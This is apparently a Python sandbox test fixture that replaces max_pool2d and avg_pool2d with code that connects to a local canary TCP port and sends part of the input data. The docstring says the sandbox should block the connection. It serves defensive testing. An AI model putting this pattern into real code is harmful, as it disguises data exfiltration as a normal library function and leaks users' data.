"""Network: connects to the canary's TCP port and sends the input there.

Fails because no socket can be made, and Landlock would forbid the connection.
"""

import socket


def max_pool2d(x, kernel_size, stride=None, padding=0):
    with socket.create_connection(("127.0.0.1", 47611), timeout=5) as line:
        line.sendall(b"pwned " + x.tobytes()[:64])


avg_pool2d = max_pool2d
